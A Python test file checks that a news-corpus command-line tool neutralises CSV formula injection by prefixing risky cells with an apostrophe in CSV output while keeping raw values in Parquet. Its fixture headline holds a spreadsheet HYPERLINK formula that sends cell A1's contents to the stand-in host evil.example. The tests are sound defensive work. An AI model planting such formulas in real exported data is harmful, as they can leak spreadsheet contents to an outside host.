"""CSV formula injection: in the corpus CSV output and in the errors file a text cell that starts
with = + - @, a tab or a carriage return gets a leading ' (OWASP); Parquet keeps the raw value."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from framing.cli import app
from framing.printable import FORMULA_STARTS, csv_safe_cell

EVIL_HEADLINE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") council vote'
BODY = "\n\nThe city council approved the budget for the bridge on Monday, officials said.\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_prefixed(start: str) -> None:
    assert csv_safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Council votes", " =1+1", "'=1", "", "a=b", "1-2", None, 3, -2.5, float("nan")])
def test_other_cells_are_left_alone(value: object) -> None:
    out = csv_safe_cell(value)
    assert out is value or out == value


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_a_safe_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    safe = csv_safe_cell(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe == text or (safe == "'" + text and text.startswith(FORMULA_STARTS))


@pytest.fixture
def corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)  # relative paths: the file column starts with the folder's name
    root = Path("=arts")
    root.mkdir()
    (root / "evil.txt").write_text(EVIL_HEADLINE + BODY, encoding="utf-8")
    (root / "@plain.txt").write_text("Council approves the bridge budget" + BODY, encoding="utf-8")
    (root / "empty.txt").write_text("  \n", encoding="utf-8")  # fails: its error names "=arts/..."
    Path("meta.csv").write_text("file,=cmd,outlet\nevil.txt,+1,-Wire\n@plain.txt,x,Views\n", encoding="utf-8")
    return root


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_output_and_errors_file_are_neutralised_and_parquet_is_raw(corpus: Path) -> None:
    for out in ("r.csv", "r.parquet"):
        r = CliRunner().invoke(app, ["corpus", str(corpus), "--out", out, "--meta", "meta.csv", "--workers", "1", "--quiet"])
        assert r.exit_code == 2, r.output
    rows = {row["name"]: row for row in _csv_rows(Path("r.csv"))}
    evil = rows["evil.txt"]
    assert evil["headline"] == "'" + EVIL_HEADLINE
    assert evil["file"] == "'=arts/evil.txt" and evil["folder"] == "'=arts"
    assert evil["outlet"] == "'-Wire" and evil["'=cmd"] == "'+1"  # a --meta value and column name
    assert "'@plain.txt" in rows and rows["'@plain.txt"]["headline"] == "Council approves the bridge budget"
    assert rows["empty.txt"]["error"].startswith("'=arts/empty.txt: ")
    for row in rows.values():  # no cell of the CSV starts a formula
        assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in [*row.values(), *row.keys()])
    errors = _csv_rows(Path("r.errors.csv"))
    assert [(e["file"], e["error"][:17]) for e in errors] == [("'=arts/empty.txt", "'=arts/empty.txt:")]
    raw = pd.read_parquet("r.parquet").set_index("name")
    assert raw.loc["evil.txt", "headline"] == EVIL_HEADLINE and raw.loc["evil.txt", "file"] == "=arts/evil.txt"
    assert raw.loc["evil.txt", "outlet"] == "-Wire" and raw.loc["evil.txt", "=cmd"] == "+1"
    assert "@plain.txt" in raw.index
